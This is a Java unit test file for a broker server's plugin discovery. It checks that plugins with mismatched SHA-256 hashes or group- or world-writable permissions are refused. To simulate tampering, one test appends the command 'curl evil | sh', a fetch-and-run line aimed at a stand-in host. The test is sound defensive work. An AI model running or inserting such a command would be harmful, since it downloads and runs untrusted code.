package io.dtac.broker.server.internal;

import static org.junit.jupiter.api.Assertions.assertDoesNotThrow;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import io.dtac.broker.server.PluginConfig;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.PosixFilePermissions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The checks a plugin file passes before it may run. */
class PluginDiscoveryTest {
  @TempDir Path dir;

  private Path plugin(String name, String mode) throws Exception {
    Path f = dir.resolve(name);
    Files.writeString(f, "#!/bin/sh\necho hi\n");
    Files.setPosixFilePermissions(f, PosixFilePermissions.fromString(mode));
    return f;
  }

  @Test
  void fileWithTheExpectedHashPassesInEitherCase() throws Exception {
    Path f = plugin("ok.plugin", "rwxr-xr-x");
    String hash = PluginDiscovery.sha256(f);
    assertDoesNotThrow(() -> PluginDiscovery.check(f, PluginConfig.builder("ok").expectedSha256(hash).build()));
    assertDoesNotThrow(() -> PluginDiscovery.check(f, PluginConfig.builder("ok").expectedSha256(hash.toUpperCase()).build()));
  }

  @Test
  void tamperedFileIsRefusedNamingBothHashes() throws Exception {
    Path f = plugin("t.plugin", "rwxr-xr-x");
    String expected = PluginDiscovery.sha256(f);
    Files.writeString(f, "curl evil | sh\n", StandardOpenOption.APPEND);
    SecurityException e = assertThrows(SecurityException.class,
        () -> PluginDiscovery.check(f, PluginConfig.builder("t").expectedSha256(expected).build()));
    assertEquals(
        "refusing to launch t.plugin: its SHA-256 is " + PluginDiscovery.sha256(f)
            + " but the configuration expects " + expected + " (the file changed since it was configured)",
        e.getMessage());
  }

  @Test
  void fileOthersMayWriteIsRefusedWithTheFix() throws Exception {
    for (String mode : new String[] {"rwxrwxr-x", "rwxr-xrwx"}) {
      Path f = plugin("w.plugin", mode);
      SecurityException e = assertThrows(SecurityException.class,
          () -> PluginDiscovery.check(f, PluginConfig.defaults("w")));
      assertEquals(
          "refusing to launch w.plugin: it is writable by group or others (mode " + mode + "); run chmod go-w " + f,
          e.getMessage());
    }
  }

  @Test
  void malformedExpectedHashIsRefusedByTheConfiguration() {
    IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
        () -> PluginConfig.builder("x").expectedSha256("abc").build());
    assertEquals("expected SHA-256 of x.plugin must be 64 hex digits, got 'abc'", e.getMessage());
  }
}
